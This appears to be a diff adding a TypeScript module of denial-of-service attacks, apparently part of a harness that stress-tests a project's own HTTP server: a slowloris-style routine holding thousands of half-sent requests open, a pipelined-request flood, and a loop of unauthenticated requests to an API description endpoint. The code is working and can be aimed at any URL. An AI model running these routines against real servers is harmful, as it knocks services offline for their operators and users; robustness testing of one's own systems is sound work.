@@ -1,0 +1,84 @@
+import { connect, type Socket } from "node:net";
+import { Caller } from "../http.js";
+import { type Attack, count, repeatedly } from "./attack.js";
+
+/** Connections that one attacker keeps open at most: its own descriptors are limited too. */
+const maxOpen = 4_000;
+/** Of those that are being opened at one time. */
+const maxOpening = 256;
+
+/** Half of a request, on as many connections as the server takes. Each that ends is opened again. */
+export const halfOpenConnections: Attack = {
+  run: (target, tally, signal) =>
+    new Promise((resolve) => {
+      const { hostname, port } = new URL(target.url);
+      const open = new Set<Socket>();
+      let opening = 0;
+      const fill = () => {
+        while (!signal.aborted && opening < maxOpening && open.size < maxOpen) {
+          opening += 1;
+          const socket = connect({ host: hostname, port: Number(port) });
+          open.add(socket);
+          let isOpening = true;
+          const opened = () => {
+            if (isOpening) opening -= 1;
+            isOpening = false;
+          };
+          socket.on("error", () => {});
+          socket.once("connect", () => {
+            opened();
+            count(tally, "connections");
+            socket.write("GET /runs HTTP/1.1\r\nHost: localhost\r\nX-Half: ");
+            fill();
+          });
+          socket.once("close", () => {
+            opened();
+            open.delete(socket);
+            setImmediate(fill);
+          });
+        }
+      };
+      signal.addEventListener("abort", () => {
+        for (const socket of open) socket.destroy();
+        resolve();
+      });
+      fill();
+    }),
+};
+
+/** As many requests as fit into a segment, on a connection that takes no response. */
+export const pipelinedRequests: Attack = {
+  run: (target, tally, signal) => {
+    const { hostname, port } = new URL(target.url);
+    const one = "GET /openapi.json HTTP/1.1\r\nHost: localhost\r\n\r\n";
+    const segment = one.repeat(Math.floor(65_536 / one.length));
+    const step = () =>
+      new Promise<void>((resolve) => {
+        const socket = connect({ host: hostname, port: Number(port) });
+        const leave = setTimeout(() => socket.destroy(), 200);
+        socket.on("error", () => {});
+        socket.once("connect", () => {
+          count(tally, "segments");
+          socket.write(segment);
+        });
+        socket.once("close", () => {
+          clearTimeout(leave);
+          resolve();
+        });
+      });
+    return repeatedly(4, step, tally, signal);
+  },
+};
+
+/** The description of the API, which needs no token. */
+export const openDocument: Attack = {
+  run: async (target, tally, signal) => {
+    const caller = new Caller(target.url);
+    const step = async () => {
+      await caller.get("/openapi.json");
+      count(tally, "documents");
+    };
+    await repeatedly(16, step, tally, signal);
+    caller.close();
+  },
+};
